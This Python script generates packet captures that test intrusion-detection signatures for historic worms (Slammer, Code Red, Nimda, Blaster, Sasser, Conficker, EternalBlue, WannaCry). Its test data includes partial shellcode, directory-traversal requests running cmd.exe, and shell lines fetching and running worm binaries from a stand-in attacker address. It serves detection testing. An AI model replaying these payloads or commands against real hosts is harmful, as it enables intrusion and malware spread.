#!/usr/bin/python3
"""Write the captures that prove rules/worms.rules: for every case one
capture that must raise the case's rules and one near miss that must not.

Run with Debian's interpreter (python3-scapy):
    /usr/bin/python3 tests/integration/wormgen.py OUTDIR [CASE ...]
writes OUTDIR/CASE-trigger.pcap and OUTDIR/CASE-nearmiss.pcap.  The tests
import it and call write_case().  Nothing is ever sent: the packets go to
files only, with addresses from 10/8 (the protected network),
192.0.2/24 and 198.51.100/24 (documentation ranges, the outside).

The payloads rebuild the layouts that advisories and public analyses
describe (which bytes sit where), not working worm code: shellcode areas
are inert filler with the documented markers placed where the write-ups
put them.  Every TCP conversation is complete (handshake, data, ACKs,
FIN), and the long requests are cut into several segments so that the
rules can only match on the reassembled stream.
"""
import struct
import sys
import uuid

from scapy.all import IP, TCP, UDP, Ether, Raw, wrpcap

CLIENT_MAC = "02:00:00:00:00:01"
SERVER_MAC = "02:00:00:00:00:02"

# Where the outside is: attackers and infected peers in documentation
# ranges, victims (the hosts picketd protects) in 10/8.
OUTSIDE = "192.0.2.66"
OUTSIDE2 = "198.51.100.23"
INSIDE = "10.1.2.3"
INSIDE2 = "10.1.2.44"

T0 = 1700000000.0


class Clock:
    """Monotonic packet time, so every capture replays in order."""

    def __init__(self, start=T0):
        self.now = start

    def tick(self, step=0.001):
        self.now += step
        return self.now


def _frame(src, dst, l4, clock, step=0.001):
    pkt = Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=src, dst=dst) / l4
    pkt.time = clock.tick(step)
    return pkt


class TcpSession:
    """One TCP conversation: handshake, data each way, ACKs, FIN."""

    def __init__(self, clock, client, cport, server, sport):
        self.clock = clock
        self.c = (client, cport)
        self.s = (server, sport)
        self.cseq = 1000 + cport * 7
        self.sseq = 50000 + sport * 13
        self.pkts = []
        self._handshake()

    def _add(self, from_client, flags, payload=b"", step=0.001):
        src, sp = self.c if from_client else self.s
        dst, dp = self.s if from_client else self.c
        seq = self.cseq if from_client else self.sseq
        ack = self.sseq if from_client else self.cseq
        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=seq,
                  ack=ack if "A" in flags else 0, window=64240)
        if payload:
            tcp = tcp / Raw(load=payload)
        self.pkts.append(_frame(src, dst, tcp, self.clock, step))
        n = len(payload) + (1 if ("S" in flags or "F" in flags) else 0)
        if from_client:
            self.cseq += n
        else:
            self.sseq += n

    def _handshake(self):
        self._add(True, "S")
        self._add(False, "SA")
        self._add(True, "A")

    def send(self, data, parts=1, from_client=True, split=()):
        """Send data in `parts` equal segments, or cut in the middle of
        each marker in `split` so that no segment holds a whole marker and
        only the reassembled stream matches; the peer ACKs each segment."""
        if split:
            mids = sorted(data.index(m) + len(m) // 2 for m in split)
            cuts = [0] + mids + [len(data)]
        else:
            cuts = [len(data) * i // parts for i in range(parts + 1)]
        for a, b in zip(cuts, cuts[1:]):
            self._add(from_client, "PA", data[a:b])
            self._add(not from_client, "A")

    def reply(self, data, parts=1, split=()):
        self.send(data, parts, from_client=False, split=split)

    def close(self):
        self._add(True, "FA")
        self._add(False, "FA")
        self._add(True, "A")
        return self.pkts


def udp(clock, src, sport, dst, dport, payload):
    return _frame(src, dst, UDP(sport=sport, dport=dport) / Raw(load=payload),
                  clock)


# ---------------------------------------------------------------- helpers

def utf16(text):
    return text.encode("utf-16-le")


def nbss(smb):
    """NetBIOS session service header (type 0, 24-bit length)."""
    return struct.pack(">I", len(smb)) + smb


def smb_header(cmd, status=0, flags=0x18, flags2=0xC807, tid=0x0800,
               pid=0xFEFF, uid=0x0800, mid=0x0040):
    return (b"\xffSMB" + bytes([cmd]) + struct.pack("<I", status) +
            bytes([flags]) + struct.pack("<H", flags2) +
            b"\x00\x00" + b"\x00" * 8 + b"\x00\x00" +
            struct.pack("<HHHH", tid, pid, uid, mid))


def smb_negotiate():
    dialects = b"".join(b"\x02" + d + b"\x00" for d in
                        (b"PC NETWORK PROGRAM 1.0", b"LANMAN1.0",
                         b"Windows for Workgroups 3.1a", b"LM1.2X002",
                         b"LANMAN2.1", b"NT LM 0.12"))
    return nbss(smb_header(0x72, tid=0, uid=0, mid=1) + b"\x00" +
                struct.pack("<H", len(dialects)) + dialects)


def smb_trans_pipe(fid, dce, mid=0x0050):
    """SMB_COM_TRANSACTION TransactNmPipe (0x0026) carrying one DCE/RPC PDU."""
    name = b"\\PIPE\\\x00"
    words = 16
    param_off = 32 + 1 + words * 2 + 2 + len(name)
    data_off = param_off
    hdr = smb_header(0x25, mid=mid)
    params = struct.pack("<HHHHBBHIHHHHHBB",
                         0, len(dce), 0, 4280, 0, 0, 0, 0, 0,
                         0, param_off, len(dce), data_off, 2, 0)
    setup = struct.pack("<HH", 0x0026, fid)
    body = name + dce
    return nbss(hdr + bytes([words]) + params + setup +
                struct.pack("<H", len(body)) + body)


def uuid_le(text):
    return uuid.UUID(text).bytes_le


NDR = uuid_le("8a885d04-1ceb-11c9-9fe8-08002b104860")


def dce_bind(iface, major=0, minor=0, call_id=1):
    ctx = (struct.pack("<HBB", 0, 1, 0) + uuid_le(iface) +
           struct.pack("<HH", major, minor) + NDR + struct.pack("<I", 2))
    body = struct.pack("<HHIB3x", 4280, 4280, 0, 1) + ctx
    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0,
                       call_id) + body


def dce_request(opnum, stub, call_id=2, ctx=0):
    body = struct.pack("<IHH", len(stub), ctx, opnum) + stub
    return struct.pack("<BBBBIHHI", 5, 0, 0, 3, 0x10, 16 + len(body), 0,
                       call_id) + body


def ndr_wstring(text, terminate=True):
    raw = utf16(text) + (b"\x00\x00" if terminate else b"")
    n = len(raw) // 2
    pad = (-len(raw)) % 4
    return struct.pack("<III", n, 0, n) + raw + b"\x00" * pad


def filler(n, seed=0x41):
    """Inert bytes with no NUL, no backslash and no ASCII letters runs."""
    out = bytearray()
    x = seed
    while len(out) < n:
        x = (x * 73 + 41) & 0xFF
        b = 0x80 | (x & 0x7F)
        out.append(b if b != 0x5C else 0x9C)
    return bytes(out)


def http_session(clock, client, server, request, response=None, parts=1,
                 cport=40001, sport=80, split=()):
    s = TcpSession(clock, client, cport, server, sport)
    s.send(request, parts, split=split)
    if response is not None:
        s.reply(response)
    return s.close()


HTTP_404 = (b"HTTP/1.0 404 Not Found\r\nContent-Type: text/html\r\n"
            b"Content-Length: 0\r\n\r\n")


# ---------------------------------------------------------------- Slammer

def slammer_payload():
    """The 376-byte resolution-service datagram as the public analyses lay
    it out: type 0x04, a run of 0x01 bytes up to the saved return address
    (0x42B0C9DC, in sqlsort.dll), a short jump, and code that pushes the
    strings it needs ("kernel32.dll", "GetTickCount", "ws2_32.dll",
    "socket", "sendto") four bytes at a time."""
    p = bytearray(b"\x04" + b"\x01" * 96)
    p += b"\xdc\xc9\xb0\x42" + b"\xeb\x0e" + b"\x01" * 7
    p += b"\x70\xae\x42\x01\x70\xae\x42" + b"\x90" * 8
    p += b"\x68\xdc\xc9\xb0\x42\xb8\x01\x01\x01\x01\x31\xc9\xb1\x18"
    p += b"\x50\xe2\xfd\x35\x01\x01\x01\x05\x50\x89\xe5\x51"
    p += b"h.dllhel32hkernQhounthickChGetTf\xb9llQh32.dhws2_f\xb9etQ"
    p += b"hsockf\xb9toQhsend\xbe\x18\x10\xae\x42"
    p += filler(376 - len(p), 0x17)
    assert len(p) == 376 and b"\x00" not in p
    return bytes(p)


def case_slammer(clock):
    trig = [udp(clock, OUTSIDE, 3092, INSIDE, 1434, slammer_payload()),
            # outbound too: an infected inside host spreading
            udp(clock, INSIDE, 1434, OUTSIDE2, 1434, slammer_payload())]
    near = [
        # a genuine SSRP unicast instance lookup
        udp(clock, INSIDE, 51000, OUTSIDE, 1434, b"\x04MSSQLSERVER\x00"),
        # the same datagram to another port
        udp(clock, OUTSIDE, 3092, INSIDE, 1433, slammer_payload()),
        # truncated: the first 300 bytes only
        udp(clock, OUTSIDE, 3093, INSIDE, 1434, slammer_payload()[:300]),
    ]
    return trig, near


# ---------------------------------------------------------------- Code Red

CODERED_TAIL = (b"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
                b"%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3"
                b"%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\n"
                b"Content-type: text/xml\r\nContent-length: 3379 \r\n\r\n")


def codered_request(pad, body_marker=b""):
    body = filler(1600, 0x33) + body_marker + filler(1779 - len(body_marker),
                                                     0x35)
    return b"GET /default.ida?" + pad * 224 + CODERED_TAIL + body


def case_codered1(clock):
    # cut inside the N run and inside the encoded shellcode start
    trig = http_session(clock, OUTSIDE, INSIDE, codered_request(b"N"),
                        cport=1045, split=(b"N" * 224, b"%ucbd3%u7801"))
    near = (http_session(clock, OUTSIDE, INSIDE,
                         b"GET /default.ida?q=report HTTP/1.0\r\n"
                         b"Host: www\r\n\r\n", HTTP_404, cport=1046) +
            http_session(clock, OUTSIDE, INSIDE,
                         b"GET /default.ida?" + b"N" * 20 +
                         b" HTTP/1.0\r\n\r\n", HTTP_404, cport=1047))
    return trig, near


def case_codered2(clock):
    trig = http_session(clock, OUTSIDE2, INSIDE,
                        codered_request(b"X", b"CodeRedII"), parts=2,
                        cport=2011)
    near = (http_session(clock, OUTSIDE2, INSIDE,
                         b"GET /default.ida?XXXXXXXX HTTP/1.0\r\n\r\n",
                         HTTP_404, cport=2012) +
            # the right bytes to a port that is not a web server's
            http_session(clock, OUTSIDE2, INSIDE,
                         codered_request(b"X", b"CodeRedII"), parts=2,
                         cport=2013, sport=8081))
    return trig, near


# ---------------------------------------------------------------- Nimda

def case_nimda(clock):
    reqs = [
        b"GET /scripts/root.exe?/c+dir HTTP/1.0\r\nHost: www\r\n"
        b"Connnection: close\r\n\r\n",
        b"GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n"
        b"Host: www\r\nConnnection: close\r\n\r\n",
        b"GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n"
        b"Host: www\r\nConnnection: close\r\n\r\n",
        b"GET /scripts/..%5c../winnt/system32/cmd.exe?/c+tftp%20-i%20"
        b"192.0.2.66%20GET%20Admin.dll%20c:\\Admin.dll HTTP/1.0\r\n"
        b"Host: www\r\nConnnection: close\r\n\r\n",
    ]
    trig = []
    for i, r in enumerate(reqs):
        trig += http_session(clock, OUTSIDE, INSIDE, r, HTTP_404,
                             split=(b"%c0%af",) if i == 1 else (),
                             cport=3001 + i)
    # the victim fetches Admin.dll from the attacker's TFTP server
    trig.append(udp(clock, INSIDE, 1030, OUTSIDE, 69,
                    b"\x00\x01Admin.dll\x00octet\x00"))
    # a web page served by an infected inside server
    page = (b"<html><body>Welcome</body></html>\n<html><script language="
            b"\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no"
            b",top=6000,left=6000\")</script></html>\n")
    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
            b"Content-Length: %d\r\n\r\n" % len(page)) + page
    trig += http_session(clock, OUTSIDE2, INSIDE,
                         b"GET /index.html HTTP/1.1\r\nHost: www\r\n\r\n",
                         resp, cport=3010)
    # mail from an infected inside host: README.EXE declared as audio
    mail = (b"EHLO host\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.net>"
            b"\r\nDATA\r\nSubject: report\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/related;\r\n\ttype=\"multipart/"
            b"alternative\";\r\n\tboundary=\"====_ABC1234567890DEF_====\"\r\n"
            b"\r\n--====_ABC1234567890DEF_====\r\nContent-Type: audio/x-wav;"
            b"\r\n\tname=\"readme.exe\"\r\nContent-Transfer-Encoding: base64"
            b"\r\nContent-ID: <EA4DMGBP9p>\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAA"
            b"\r\n--====_ABC1234567890DEF_====--\r\n.\r\nQUIT\r\n")
    s = TcpSession(clock, INSIDE2, 1100, OUTSIDE2, 25)
    s.reply(b"220 mx ESMTP\r\n")
    s.send(mail, parts=2)
    trig += s.close()

    near = []
    benign = [
        b"GET /scripts/search.asp?q=root HTTP/1.0\r\nHost: www\r\n\r\n",
        b"GET /downloads/tools/cmd.exe.txt HTTP/1.0\r\nHost: www\r\n\r\n",
        b"GET /docs/admin.dll.html HTTP/1.0\r\nHost: www\r\n\r\n",
    ]
    for i, r in enumerate(benign):
        near += http_session(clock, OUTSIDE, INSIDE, r, HTTP_404,
                             cport=3101 + i)
    # a traversal request, but to a port that is not a web server's
    near += http_session(clock, OUTSIDE, INSIDE, reqs[1], None,
                         cport=3110, sport=8888)
    near.append(udp(clock, INSIDE, 1031, OUTSIDE, 69,
                    b"\x00\x01pxelinux.0\x00octet\x00"))
    page = b"<html><body>readme.eml is a file name</body></html>\n"
    near += http_session(clock, OUTSIDE2, INSIDE,
                         b"GET / HTTP/1.1\r\nHost: www\r\n\r\n",
                         b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                         % len(page) + page, cport=3111)
    s = TcpSession(clock, INSIDE2, 1101, OUTSIDE2, 25)
    s.reply(b"220 mx ESMTP\r\n")
    s.send(b"EHLO host\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.net>"
           b"\r\nDATA\r\nContent-Type: audio/x-wav; name=\"song.wav\"\r\n\r\n"
           b"UklGRg==\r\n.\r\nQUIT\r\n")
    near += s.close()
    return trig, near


# ---------------------------------------------------------------- Blaster

ISYSTEMACTIVATOR = "000001a0-0000-0000-c000-000000000046"
EPMAPPER = "e1af8308-5d1f-11c9-91a4-08002b14ef96"
IID_ACTPROPS_IN = uuid_le("000001a2-0000-0000-c000-000000000046")
IID_ACTPROPS_OUT = uuid_le("00000338-0000-0000-c000-000000000046")


def remote_create_instance(path_units):
    """ISystemActivator::RemoteCreateInstance (opnum 4) stub: ORPCTHIS, an
    OBJREF ("MEOW") holding activation properties, and the file name."""
    orpcthis = (struct.pack("<HHI", 5, 6, 1) + b"\x00" * 4 +
                uuid_le("fd582432-45cc-4964-b070-ddae742c96d2") +
                struct.pack("<I", 0))
    objref = (b"MEOW" + struct.pack("<I", 4) + IID_ACTPROPS_IN +
              IID_ACTPROPS_OUT + b"\x00" * 8 + struct.pack("<II", 0x200, 0))
    name = struct.pack("<III", len(path_units) // 2, 0,
                       len(path_units) // 2) + path_units
    return (orpcthis + struct.pack("<II", 0x00020000, len(objref) + 8) +
            objref + b"\x00" * 8 + name + b"\x00" * ((-len(name)) % 4))


def blaster_path():
    # "\\" then an over-long server name (inert filler, no separator),
    # then the share path the public exploit used.
    return (b"\\\x00\\\x00" + filler(1100, 0x61) +
            utf16("\\C$\\123456111111111111111.doc") + b"\x00\x00")


def case_blaster(clock):
    trig = []
    s = TcpSession(clock, OUTSIDE, 1234, INSIDE, 135)
    s.send(dce_bind(ISYSTEMACTIVATOR))
    s.reply(struct.pack("<BBBBIHHI", 5, 0, 12, 3, 0x10, 60, 0, 1) +
            b"\x00" * 44)
    s.send(dce_request(4, remote_create_instance(blaster_path())),
           split=(b"MEOW", IID_ACTPROPS_IN, b"\\\x00\\\x00"))
    trig += s.close()
    # the worm's shell on 4444 told to fetch the worm by TFTP
    s = TcpSession(clock, OUTSIDE, 1235, INSIDE, 4444)
    s.reply(b"Microsoft Windows 2000 [Version 5.00.2195]\r\n"
            b"C:\\WINNT\\system32>")
    s.send(b"tftp -i 192.0.2.66 GET msblast.exe\n")
    s.send(b"start msblast.exe\n")
    trig += s.close()
    trig.append(udp(clock, INSIDE, 1032, OUTSIDE, 69,
                    b"\x00\x01msblast.exe\x00octet\x00"))

    near = []
    # a normal endpoint-mapper bind and lookup
    s = TcpSession(clock, INSIDE2, 1300, INSIDE, 135)
    s.send(dce_bind(EPMAPPER, 3, 0))
    s.reply(struct.pack("<BBBBIHHI", 5, 0, 12, 3, 0x10, 60, 0, 1) +
            b"\x00" * 44)
    s.send(dce_request(2, b"\x00" * 76))
    near += s.close()
    # a legitimate activation naming a short UNC path
    s = TcpSession(clock, INSIDE2, 1301, INSIDE, 135)
    s.send(dce_bind(ISYSTEMACTIVATOR))
    s.reply(struct.pack("<BBBBIHHI", 5, 0, 12, 3, 0x10, 60, 0, 1) +
            b"\x00" * 44)
    s.send(dce_request(4, remote_create_instance(
        utf16("\\\\FILESRV\\docs\\report.doc") + b"\x00\x00")), parts=2)
    near += s.close()
    # the same shell command on another port, a harmless one on 4444
    s = TcpSession(clock, OUTSIDE, 1236, INSIDE, 4445)
    s.send(b"tftp -i 192.0.2.66 GET msblast.exe\n")
    near += s.close()
    s = TcpSession(clock, OUTSIDE, 1237, INSIDE, 4444)
    s.send(b"dir c:\\\n")
    near += s.close()
    near.append(udp(clock, INSIDE, 1033, OUTSIDE, 69,
                    b"\x00\x01config.txt\x00octet\x00"))
    return trig, near


# ---------------------------------------------------------------- Sasser

DSSETUP = "3919286a-b10c-11d0-9ba8-00c04fd92ef5"


def smb_pipe_session(clock, client, cport, server, dces, parts=1, split=()):
    s = TcpSession(clock, client, cport, server, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    for i, dce in enumerate(dces):
        last = i == len(dces) - 1
        s.send(smb_trans_pipe(0x4000, dce, mid=0x50 + i),
               parts if last else 1, split=split if last else ())
        s.reply(nbss(smb_header(0x25, flags=0x98, mid=0x50 + i) +
                     b"\x0a" + b"\x00" * 22))
    return s.close()


def sasser_stub():
    # DsRolerUpgradeDownlevelServer: a long, unterminated domain name
    return (struct.pack("<I", 0x00020000) +
            ndr_wstring("", True) + struct.pack("<I", 0x00020004) +
            struct.pack("<III", 1400, 0, 1400) + filler(2800, 0x55) +
            b"\x00" * 8)


def case_sasser(clock):
    trig = smb_pipe_session(clock, OUTSIDE, 1500, INSIDE,
                            [dce_bind(DSSETUP), dce_request(9, sasser_stub())],
                            split=(b"\x05\x00\x00\x03\x10\x00\x00\x00",))
    # the victim's shell on 9996 is told to script an FTP fetch
    s = TcpSession(clock, OUTSIDE, 1501, INSIDE, 9996)
    s.send(b"echo off&echo open 192.0.2.66 5554>>cmd.ftp&echo anonymous>>"
           b"cmd.ftp&echo user&echo bin>>cmd.ftp&echo get 31337_up.exe>>"
           b"cmd.ftp&echo bye>>cmd.ftp&echo on&ftp -s:cmd.ftp&31337_up.exe"
           b"&echo off&del cmd.ftp&echo on\n", parts=2)
    trig += s.close()
    # the victim fetches the worm from the attacker's FTP server on 5554
    s = TcpSession(clock, INSIDE, 1502, OUTSIDE, 5554)
    s.reply(b"220 OK\r\n")
    for cmd, ans in ((b"USER anonymous\r\n", b"331 OK\r\n"),
                     (b"PASS \r\n", b"230 OK\r\n"),
                     (b"TYPE I\r\n", b"200 OK\r\n"),
                     (b"PORT 10,1,2,3,4,31\r\n", b"200 OK\r\n"),
                     (b"RETR 31337_up.exe\r\n", b"150 OK\r\n")):
        s.send(cmd)
        s.reply(ans)
    trig += s.close()

    near = smb_pipe_session(clock, INSIDE2, 1600, INSIDE,
                            # DsRoleGetPrimaryDomainInformation, level 1
                            [dce_bind(DSSETUP),
                             dce_request(0, struct.pack("<H2x", 1))])
    s = TcpSession(clock, INSIDE, 1601, OUTSIDE, 21)
    s.reply(b"220 ftp\r\n")
    s.send(b"USER anonymous\r\n")
    s.send(b"RETR 31337_up.exe\r\n")
    near += s.close()
    s = TcpSession(clock, INSIDE, 1602, OUTSIDE, 5554)
    s.send(b"RETR setup.exe\r\n")
    near += s.close()
    return trig, near


# ---------------------------------------------------------------- Conficker

SRVSVC = "4b324fc8-1670-01d3-1278-5a47bf6ee188"


def canonicalize_stub(path):
    stub = (struct.pack("<I", 0x00020000) + ndr_wstring("10.1.2.3") +
            ndr_wstring(path) + struct.pack("<I", 1000) +
            ndr_wstring("\\") + struct.pack("<II", 1, 0))
    return stub


def case_conficker(clock):
    path = ("\\" + "\u9090" * 40 + "\\..\\..\\" + "\u4141" * 20)
    trig = smb_pipe_session(clock, OUTSIDE, 1700, INSIDE,
                            [dce_bind(SRVSVC, 3, 0),
                             dce_request(0x1F, canonicalize_stub(path))],
                            split=(b"\\\x00.\x00.\x00\\\x00",))
    near = smb_pipe_session(clock, INSIDE2, 1701, INSIDE,
                            [dce_bind(SRVSVC, 3, 0),
                             dce_request(0x1F, canonicalize_stub(
                                 "\\docs\\reports\\q3.txt"))])
    # the traversal string in NetprPathCompare (opnum 32), not opnum 31
    near += smb_pipe_session(clock, INSIDE2, 1702, INSIDE,
                             [dce_bind(SRVSVC, 3, 0),
                              dce_request(0x20, canonicalize_stub(path))])
    return trig, near


# ------------------------------------------- WannaCry / EternalBlue / DP

def trans2(sub, mid, timeout=0, params=b"\x00" * 12):
    words = 15
    param_off = 32 + 1 + words * 2 + 2 + 1
    body = b"\x00" + params
    w = struct.pack("<HHHHBBHIHHHHHBBH", len(params), 0, 1, 0x4000, 0, 0, 0,
                    timeout, 0, len(params), param_off, 0,
                    param_off + len(params), 1, 0, sub)
    return nbss(smb_header(0x32, mid=mid) + bytes([words]) + w +
                struct.pack("<H", len(body)) + body)


def trans2_reply(mid, status=0):
    return nbss(smb_header(0x32, status=status, flags=0x98, mid=mid) +
                b"\x00\x00\x00")


def case_doublepulsar(clock):
    s = TcpSession(clock, OUTSIDE, 1800, INSIDE, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    # cut between the SMB header and the Trans2 setup word
    s.send(trans2(0x000E, 0x41, timeout=0x00A4D5E6),
           split=(struct.pack("<I", 0x00A4D5E6),))
    s.reply(trans2_reply(0x51, 0xC0000002))
    trig = s.close()

    s = TcpSession(clock, INSIDE2, 1801, INSIDE, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    # TRANS2_FIND_FIRST2 and TRANS2_QUERY_FS_INFORMATION, ordinary ids;
    # a clean server refusing one of them with STATUS_NOT_IMPLEMENTED
    s.send(trans2(0x0001, 0x41))
    s.reply(trans2_reply(0x41))
    s.send(trans2(0x0003, 0x42))
    s.reply(trans2_reply(0x42, 0xC0000002))
    near = s.close()
    return trig, near


def nt_trans(function, total_data, data):
    words = 20
    param = b"\x00" * 30
    param_off = 32 + 1 + words * 2 + 2 + 4
    data_off = param_off + len(param)
    w = (struct.pack("<BH", 1, 0) +
         struct.pack("<IIIIIIII", len(param), total_data, len(param), 0,
                     len(param), param_off, len(data), data_off) +
         struct.pack("<BHH", 1, function, 0))
    body = b"\x00" * 4 + param + data
    return nbss(smb_header(0xA0, mid=0x40) + bytes([words]) + w +
                struct.pack("<H", len(body)) + body)


def trans2_secondary(data, displacement, mid=0x40):
    words = 9
    off = 32 + 1 + words * 2 + 2
    w = struct.pack("<HHHHHHHHH", 0, len(data), 0, off, 0, len(data), off,
                    displacement, 0xFFFF)
    return nbss(smb_header(0x33, mid=mid) + bytes([words]) + w +
                struct.pack("<H", len(data)) + data)


def peek_pipe(fid):
    name = b"\\PIPE\\\x00"
    words = 16
    off = 32 + 1 + words * 2 + 2 + len(name)
    w = struct.pack("<HHHHBBHIHHHHHBB", 0, 0, 0xFFFF, 0xFFFF, 0, 0, 0, 0, 0,
                    0, off, 0, off, 2, 0)
    return nbss(smb_header(0x25, mid=0x40) + bytes([words]) + w +
                struct.pack("<HH", 0x0023, fid) +
                struct.pack("<H", len(name)) + name)


def case_eternalblue(clock):
    s = TcpSession(clock, OUTSIDE, 1900, INSIDE, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    # the MS17-010 check: PeekNamedPipe on FID 0, answered
    # STATUS_INSUFF_SERVER_RESOURCES by an unpatched server
    s.send(peek_pipe(0))
    s.reply(nbss(smb_header(0x25, status=0xC0000205, flags=0x98, mid=0x40) +
                 b"\x00\x00\x00"))
    s.close()
    trig = s.pkts
    s = TcpSession(clock, OUTSIDE, 1901, INSIDE, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    # NT Trans with the unused function 0 and a 64 KiB+ data total (the FEA
    # list), continued by Trans2 secondaries
    s.send(nt_trans(0, 0x000103D0, b"\x00" * 4 + filler(900, 0x21)),
           split=(struct.pack("<I", 0x000103D0),))
    s.reply(nbss(smb_header(0xA0, flags=0x98, mid=0x40) + b"\x00\x00\x00"))
    for i in range(3):
        s.send(trans2_secondary(filler(1000, 0x30 + i), 904 + 1000 * i))
    trig += s.close()

    # a patched server's answer to a normal peek, a normal NT Trans
    # (NT_TRANSACT_QUERY_SECURITY_DESC, 6) and a normal Trans2 request
    s = TcpSession(clock, INSIDE2, 1902, INSIDE, 445)
    s.send(smb_negotiate())
    s.reply(nbss(smb_header(0x72, flags=0x98, tid=0, uid=0, mid=1) +
                 b"\x11" + b"\x00" * 36))
    s.send(peek_pipe(0x4001))
    s.reply(nbss(smb_header(0x25, status=0xC0000022, flags=0x98, mid=0x40) +
                 b"\x00\x00\x00"))
    s.send(nt_trans(6, 8, b"\x00" * 8))
    s.reply(nbss(smb_header(0xA0, flags=0x98, mid=0x40) + b"\x00\x00\x00"))
    s.send(trans2(0x0005, 0x43))
    s.reply(trans2_reply(0x43))
    near = s.close()
    return trig, near


def case_wannacry(clock):
    blob = (b"MZ\x90\x00" + filler(700, 0x44) + b"\\\\%s\\IPC$\x00" +
            filler(300, 0x45) + b"__USERID__PLACEHOLDER__\x00" +
            filler(500, 0x46) + b"__TREEID__PLACEHOLDER__\x00" +
            filler(600, 0x47))
    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
            b"Content-Length: %d\r\n\r\n" % len(blob)) + blob
    s = TcpSession(clock, INSIDE, 2100, OUTSIDE2, 80)
    s.send(b"GET /tasksche.bin HTTP/1.1\r\nHost: dl.example.net\r\n\r\n")
    s.reply(resp, split=(b"__USERID__PLACEHOLDER__",
                         b"__TREEID__PLACEHOLDER__"))
    trig = s.close()
    one = (b"MZ\x90\x00" + filler(700, 0x44) + b"__USERID__PLACEHOLDER__" +
           filler(500, 0x46))
    s = TcpSession(clock, INSIDE, 2101, OUTSIDE2, 80)
    s.send(b"GET /notes.bin HTTP/1.1\r\nHost: dl.example.net\r\n\r\n")
    s.reply(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(one) +
            one, parts=2)
    near = s.close()
    return trig, near


# ------------------------------------------------------------------ table

# case name -> (builder, sids the trigger must raise)
CASES = {
    "slammer": (case_slammer, {9000001}),
    "codered1": (case_codered1, {9000002}),
    "codered2": (case_codered2, {9000003}),
    "nimda": (case_nimda, {9000004, 9000005, 9000006, 9000007, 9000008,
                           9000009, 9000010}),
    "blaster": (case_blaster, {9000011, 9000012, 9000013}),
    "sasser": (case_sasser, {9000014, 9000015, 9000016}),
    "conficker": (case_conficker, {9000017}),
    "doublepulsar": (case_doublepulsar, {9000018, 9000019}),
    "eternalblue": (case_eternalblue, {9000020, 9000021, 9000022, 9000024}),
    "wannacry": (case_wannacry, {9000023}),
}


def write_case(name, outdir):
    """Write OUTDIR/NAME-trigger.pcap and -nearmiss.pcap; return paths."""
    build, _ = CASES[name]
    clock = Clock(T0 + 1000 * list(CASES).index(name))
    trig, near = build(clock)
    paths = []
    for kind, pkts in (("trigger", trig), ("nearmiss", near)):
        path = f"{outdir}/{name}-{kind}.pcap"
        wrpcap(path, pkts)
        paths.append(path)
    return tuple(paths)


def main(argv):
    if len(argv) < 2:
        print(__doc__.split("\n\n")[1], file=sys.stderr)
        return 2
    names = argv[2:] or list(CASES)
    for name in names:
        if name not in CASES:
            print(f"unknown case {name}; known: {' '.join(CASES)}",
                  file=sys.stderr)
            return 2
        for p in write_case(name, argv[1]):
            print(p)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
